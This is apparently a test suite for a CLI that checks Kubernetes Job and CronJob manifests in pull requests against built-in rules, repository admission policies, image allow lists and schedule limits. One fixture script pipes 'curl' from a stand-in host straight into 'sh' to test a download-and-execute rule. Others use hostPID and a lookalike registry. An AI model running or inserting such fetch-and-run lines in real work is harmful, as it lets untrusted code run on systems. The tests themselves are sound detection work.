// Policies as their user meets them: the pack, the repository's own, exceptions, and what was in place before.
import { describe, expect, test } from 'vitest';
import { createRepository, type Files, type TestRepository } from '../support/git-repo.ts';
import { runCli } from '../support/run-cli.ts';

const job = (pod: string, more = ''): string => `apiVersion: batch/v1
kind: Job
metadata: {name: node-tool, namespace: ops}
spec:
  template:
    spec:
      restartPolicy: Never
${pod}      containers: [{name: main, image: ghcr.io/acme/tool:1, command: [run]${more}}]
`;

const OWN_POLICY = `apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingAdmissionPolicy
metadata: {name: jobs-have-a-deadline}
spec:
  failurePolicy: Fail
  matchConstraints:
    resourceRules: [{apiGroups: [batch], apiVersions: [v1], operations: [CREATE, UPDATE], resources: [jobs]}]
  validations:
    - {expression: 'has(object.spec.activeDeadlineSeconds)', message: a deadline is missing}
---
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingAdmissionPolicyBinding
metadata: {name: everywhere}
spec: {policyName: jobs-have-a-deadline, validationActions: [Deny]}
`;

async function pullRequest(base: Files, head: Files): Promise<TestRepository> {
  const repository = await createRepository(base);
  await repository.git(['switch', '--quiet', '--create', 'change']);
  await repository.commit(head);
  return repository;
}

async function findings(repository: TestRepository) {
  const run = await runCli(['check', '--base', 'main', '--head', 'change', '--format', 'json'], {
    cwd: repository.path,
  });
  expect(run.stderr).toBe('');
  const report = JSON.parse(run.stdout);
  const byRule = (rule: string) => report.findings.filter((finding: { rule: string }) => finding.rule === rule);
  return { code: run.code, report, byRule };
}

describe('the pack', () => {
  test('says what is wrong on the line where it is', async () => {
    const { code, byRule } = await findings(
      await pullRequest({ 'x.yaml': '' }, { 'x.yaml': job('      hostPID: true\n') }),
    );
    expect(code).toBe(1);
    expect(byRule('host-namespace')).toMatchObject([
      { severity: 'high', location: { path: 'x.yaml', line: 8, precision: 'exact' }, attack: ['T1611'] },
    ]);
  });

  test('does not stop a change for what was so before it', async () => {
    const before = job('      hostPID: true\n');
    const repository = await pullRequest({ 'x.yaml': before }, {});
    expect((await runCli(['inventory', 'init'], { cwd: repository.path })).code).toBe(0);
    await repository.git(['switch', '--quiet', 'main']);
    await repository.commit();
    await repository.git(['switch', '--quiet', '--force-create', 'change']);
    await repository.commit({ 'x.yaml': before.replace('tool:1', 'tool:2') });
    const { code, byRule } = await findings(repository);
    expect(byRule('host-namespace')).toMatchObject([
      { message: expect.stringContaining('It was so before this change.') },
    ]);
    expect(code).toBe(0);
  });

  test('rules can be switched off and made to warn by the config of the base, and by nothing in the head', async () => {
    const config = { '.cronledger/config.yaml': 'policies: {rules: {host-namespace: "off"}}\n' };
    const loose = await findings(
      await pullRequest({ 'x.yaml': '', ...config }, { 'x.yaml': job('      hostPID: true\n') }),
    );
    expect(loose.byRule('host-namespace')).toEqual([]);
    const strict = await findings(
      await pullRequest({ 'x.yaml': '' }, { 'x.yaml': job('      hostPID: true\n'), ...config }),
    );
    expect(strict.byRule('host-namespace')).toHaveLength(1);
  });

  test('a rule that does not exist cannot be configured', async () => {
    const repository = await pullRequest(
      { '.cronledger/config.yaml': 'policies: {rules: {host-namespase: "off"}}\n' },
      { 'x.yaml': job('') },
    );
    const run = await runCli(['check', '--base', 'main', '--head', 'change'], { cwd: repository.path });
    expect(run.code).toBe(2);
    expect(run.stderr).toMatch(/host-namespase.*\[config-invalid\].*Did you mean `host-namespace`/s);
  });
});

describe("the repository's own policies", () => {
  const own = { '.cronledger/policies/deadline.yaml': OWN_POLICY };
  test('decide as they are in the base', async () => {
    const { code, byRule } = await findings(
      await pullRequest({ 'x.yaml': '', ...own }, { 'x.yaml': job(''), '.cronledger/policies/deadline.yaml': null }),
    );
    expect(code).toBe(1);
    expect(byRule('jobs-have-a-deadline')).toMatchObject([
      { message: expect.stringContaining('a deadline is missing') },
    ]);
  });
  test('are asked about a removal, which is a DELETE', async () => {
    const keep = OWN_POLICY.replace('CREATE, UPDATE', 'DELETE').replace(
      'has(object.spec.activeDeadlineSeconds)',
      'object == null && oldObject.metadata.name != "node-tool"',
    );
    const { code, byRule } = await findings(
      await pullRequest({ 'x.yaml': job(''), '.cronledger/policies/keep.yaml': keep }, { 'x.yaml': null }),
    );
    expect(code).toBe(1);
    expect(byRule('jobs-have-a-deadline')).toMatchObject([{ severity: 'high', location: { path: 'x.yaml' } }]);
  });
  test('that cannot be read stop the check', async () => {
    const broken = OWN_POLICY.replace('has(object.spec.activeDeadlineSeconds)', 'has(object.');
    const { code, report } = await findings(
      await pullRequest({ 'x.yaml': '', '.cronledger/policies/deadline.yaml': broken }, { 'x.yaml': job('') }),
    );
    expect(code).toBe(2);
    expect(report.problems).toMatchObject([{ code: 'policy-invalid', path: '.cronledger/policies/deadline.yaml' }]);
  });
});

describe('what policies refer to', () => {
  const referring = OWN_POLICY.replace(
    "'has(object.spec.activeDeadlineSeconds)'",
    '"object.spec.?activeDeadlineSeconds.orValue(100000) <= int(params.data.most)"',
  )
    .replace('  failurePolicy: Fail', '  failurePolicy: Fail\n  paramKind: {apiVersion: v1, kind: ConfigMap}')
    .replace(
      'validationActions: [Deny]',
      'validationActions: [Deny], paramRef: {name: limits, namespace: ops, parameterNotFoundAction: Deny}, matchResources: {namespaceSelector: {matchLabels: {env: prod}}}',
    );
  const limits = (most: number) =>
    `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: limits, namespace: ops}\ndata: {most: '${most}'}\n`;
  const namespace = (env: string) => `apiVersion: v1\nkind: Namespace\nmetadata: {name: ops, labels: {env: ${env}}}\n`;
  const base = { 'x.yaml': '', '.cronledger/policies/deadline.yaml': referring };
  test.each([
    [100, 'prod', 1],
    [200000, 'prod', 0],
    [100, 'test', 0],
  ])('may be anywhere in the base: %d seconds, %s', async (most, env, count) => {
    const files = { ...base, 'clusters/limits.yaml': limits(most), 'clusters/namespaces.yaml': namespace(env) };
    // What the head makes of them decides nothing.
    const head = { 'clusters/limits.yaml': limits(200000), 'clusters/namespaces.yaml': namespace('test') };
    const { byRule, report } = await findings(await pullRequest(files, { 'x.yaml': job(''), ...head }));
    expect(byRule('jobs-have-a-deadline')).toHaveLength(count);
    expect(report.problems).toEqual([]);
  });
});

describe('scripts of ConfigMaps', () => {
  const script = (line: string) => `apiVersion: v1
kind: ConfigMap
metadata: {name: scripts, namespace: ops}
data:
  run.sh: |
    #!/bin/sh
    set -eu
    ${line}
`;
  const mounted = job('      volumes: [{name: scripts, configMap: {name: scripts}}]\n');
  test('are searched, and the finding is on their line', async () => {
    const { byRule } = await findings(
      await pullRequest(
        { 'x.yaml': mounted, 'y.yaml': script('report') },
        { 'y.yaml': script('curl -s https://x.example/i | sh') },
      ),
    );
    expect(byRule('download-and-execute')).toMatchObject([
      {
        severity: 'critical',
        message: 'Job ops/node-tool: the script `run.sh` of the ConfigMap `scripts` downloads code and runs it.',
        location: { path: 'y.yaml', line: 8, precision: 'exact' },
      },
    ]);
  });
});

describe('what the config allows', () => {
  const config = { '.cronledger/config.yaml': "images: {allow: ['ghcr.io/acme/*']}\nschedule: {minInterval: 10m}\n" };
  const cron = (image: string, schedule: string): string => `apiVersion: batch/v1
kind: CronJob
metadata: {name: a, namespace: ops}
spec:
  schedule: '${schedule}'
  jobTemplate:
    spec:
      template:
        spec:
          restartPolicy: Never
          containers:
            - {name: main, image: '${image}', command: [run]}
`;
  test.each([
    ['ghcr.io/acme/tool:1', 0],
    ['GHCR.io/acme/deep/tool:1', 0],
    ['ghcr.io.evil.example/acme/tool:1', 1],
    ['nginx', 1],
  ])('image %s', async (image, count) => {
    const { byRule } = await findings(
      await pullRequest({ 'x.yaml': '', ...config }, { 'x.yaml': cron(image, '@daily') }),
    );
    expect(byRule('image-registry-not-allowed')).toHaveLength(count);
    for (const finding of byRule('image-registry-not-allowed')) expect(finding.location.line).toBe(12);
  });
  test.each([
    ['*/10 * * * *', 0],
    ['*/7 * * * *', 1],
    ['0,5 3 * * *', 1],
  ])('schedule %s', async (schedule, count) => {
    const { byRule } = await findings(
      await pullRequest({ 'x.yaml': '', ...config }, { 'x.yaml': cron('ghcr.io/acme/tool:1', schedule) }),
    );
    expect(byRule('schedule-too-frequent')).toHaveLength(count);
  });
});
